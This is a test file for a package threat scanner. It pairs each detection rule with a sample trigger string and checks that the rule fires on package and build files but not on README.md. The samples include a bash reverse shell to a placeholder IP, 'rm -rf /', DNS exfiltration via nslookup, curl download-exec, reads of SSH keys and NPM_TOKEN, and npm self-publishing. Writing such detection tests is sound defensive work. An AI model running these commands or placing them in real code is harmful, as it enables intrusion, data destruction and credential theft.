import { threatNames, threatsIn } from './tools/threats';

/** For each rule something that it has to find: a scan that finds nothing may as well be one that looks for nothing. */
const EXAMPLES: Record<string, string> = {
	'filesystem-autostart': 'fs.appendFile(home + "/.bashrc", line)',
	'filesystem-destruction': 'run("rm -rf /")',
	'network-dns-exfil': 'run(`nslookup ${name}.example.com`)',
	'network-exfil-messenger': 'const hook = "https://discord.com/api/webhooks/1/abc";',
	'network-exfil-sysinfo': 'fetch(address + os.hostname())',
	'network-reverse-shell': 'run("bash -i >& /dev/tcp/203.0.113.9/9 0>&1")',
	'process-cryptomining': 'start("xmrig")',
	'process-download-exec': 'exec("curl -s example.com/x")',
	'process-memory': 'const kernel = ffi.ReadProcessMemory;',
	'process-powershell-encoded': 'run("powershell -enc aGVsbG8gd29ybGQhIGhlbGxvIQ==")',
	'runtime-collection': 'const machine = os.userInfo();',
	'runtime-enumeration': 'read("/proc/1/maps"); os.networkInterfaces();',
	'runtime-obfuscation-steganography': 'eval(Buffer.concat(read("a.png")))',
	'runtime-self-propagation': 'writeFile("package.json", x); execSync("npm publish")',
	'runtime-hooks-install': '{ "scripts": { "prepare": "node go.js" } }',
	'network-exfiltration': 'fetch("http://203.0.113.9/collect")',
	'network-outbound-shady-links': 'const from = "https://bit.ly/2abc";',
	'filesystem-read': 'readFileSync(home + "/.ssh/id_rsa")',
	'runtime-environment-read': 'const found = process.env.NPM_TOKEN;',
	'runtime-keylogging': '// Grabs what is typed into the password field',
	'runtime-system-info': 'send(os.hostname(), os.userInfo(), os.platform())',
	'process-spawn-silent': 'spawn("it", [], { detached: true, stdio: "ignore" })',
	'runtime-obfuscation': `x("${'Ab9'.repeat(60)}", "${'Cd8'.repeat(60)}", "${'Ef7'.repeat(60)}")`,
	'runtime-obfuscation-general': 'const ok = [!![]];',
	'runtime-obfuscation-base64exec': 'eval(atob(text))',
	'runtime-obfuscation-dynamic-eval': 'eval(function (p, a) { return p; })',
	'runtime-obfuscation-hidden-code': `const a = 1;${' '.repeat(400)}eval(a)`,
	'runtime-obfuscation-js-mangling': 'var _0x3fa2 = 1;',
	'runtime-obfuscation-api': 'Object.getOwnPropertyDescriptor(a, "b").value()',
	'runtime-obfuscation-unicode': 'const p\u0430ypal = 1;',
	'npm-preinstall-script': '{ "scripts": { "postinstall": "node go.js" } }',
	'npm-http-dependency': '{ "dependencies": { "a": "http://example.com/a" } }',
	'npm-dependency-confusion': '{ "scripts": { "test": "nslookup $(whoami).example.com" } }',
};

test('every rule has an example', () => {
	expect(Object.keys(EXAMPLES)).toEqual(threatNames);
});

test.each(Object.entries(EXAMPLES))('%s is found', (name, text) => {
	const path = /^(npm-|runtime-hooks)/.test(name)
		? 'package.json'
		: 'dist/nodes/Vendor/Vendor.node.js';
	expect(threatsIn(path, Buffer.from(text))).toContain(name);
	expect(threatsIn('README.md', Buffer.from(text))).toEqual([]);
});

test.each([
	'fetch("http://127.0.0.1:5678/webhook"); fetch("http://192.168.1.4/")',
	'throw new Error("Überprüfen Sie „Rückruf“ – 5 €");',
	'const value = Object.entries(a).filter(([key]) => key)[0];',
])('nothing is found in %s', (text) => {
	expect(threatsIn('dist/a.js', Buffer.from(text))).toEqual([]);
});
